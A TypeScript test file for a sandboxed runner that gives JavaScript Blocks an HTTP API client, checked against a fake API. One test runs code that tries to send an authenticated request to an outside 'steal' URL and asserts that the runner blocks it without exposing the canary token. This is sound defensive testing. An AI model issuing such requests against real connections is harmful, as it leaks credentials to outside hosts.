import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { createRunnerPool } from '../src/runtime/runner/runner-pool.ts';
import { tempLogsDir, testResolvers } from '../src/runtime/runner/test-resolvers.ts';
import type { RunnerPool } from '../src/runtime/runner/types.ts';
import { startFakeHttpApi, type FakeHttpApi } from './fakes/http-api.ts';

// A JavaScript Block in the real sandboxed runner with our HTTP API client against the fake the
// connector tests use: the example of docs/connectors/http-api.md, as written there.
let pool: RunnerPool;
let logsDir: string;
let fake: FakeHttpApi;
const canary = 'http-block-canary-Token-2024';

before(async () => {
  logsDir = await tempLogsDir();
  fake = await startFakeHttpApi();
  const { resolvers } = testResolvers({
    api: { type: 'http-api', dev: { baseUrl: fake.url, auth: { type: 'oauth2ClientCredentials', tokenUrl: fake.tokenUrl, clientId: fake.client.id, clientSecret: fake.client.secret } } },
    locked: { type: 'http-api', dev: { baseUrl: fake.url, auth: { type: 'bearer', token: canary } } },
  });
  pool = createRunnerPool({ size: 1, logsDir, ...resolvers });
});

after(async () => {
  await pool.close();
  await fake.close();
  await rm(logsDir, { recursive: true, force: true });
});

const run = (code: string) => pool.run({ code, inputs: [], mode: 'dev', author: 'user:test', executionId: `exec-${randomBytes(3).toString('hex')}` });

describe('an HTTP API connection in a JavaScript Block', () => {
  it('is our client: get, post with json, get with a query and request, as the docs write them', async () => {
    const result = await run(`async function () {
      const api = connections.api;
      const me = await api.get('/me');
      if (!me.ok) throw new Error(\`GET /me answered \${me.status}\`);
      const created = await api.post('/items', { json: { name: 'Acme AB' } });
      const page = await api.get('/items', { query: { limit: 50, offset: 0 } });
      const raw = await api.request({ method: 'PATCH', path: \`/items/\${encodeURIComponent(created.json.id)}\`, json: { name: 'Acme Group AB' } });
      return { me: me.json.name, items: page.json.length, patched: raw.status };
    }`);
    assert.equal(result.status, 'ok', JSON.stringify(result.error));
    assert.deepEqual(result.result, { me: 'Ada', items: 25, patched: 200 });
  });

  it('refuses a path outside baseUrl and keeps the token out of the run', async () => {
    const result = await run("async function () { const answer = await connections.locked.get('/me'); if (answer.status === 401) return connections.locked.get('http://example.com/steal'); }");
    assert.equal(result.status, 'error');
    assert.match(result.error?.message ?? '', /leads outside baseUrl/);
    assert.ok(!JSON.stringify(result).includes(canary));
  });
});
